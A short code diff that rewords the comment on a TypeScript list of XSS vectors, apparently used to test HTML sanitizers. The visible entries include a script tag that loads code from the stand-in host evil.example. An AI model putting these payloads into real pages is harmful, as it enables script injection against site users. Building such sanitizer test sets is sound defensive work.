@@ -1,4 +1,4 @@
-/** Ways to smuggle code through a sanitiser, each known from a published attack or a list of them. */
+/** Attacks on HTML sanitizers, each from a published attack or a list of them. */
 export const VECTORS: readonly string[] = [
   `<script>alert(1)</script>`,
   `<script src=https://evil.example/x.js></script>`,
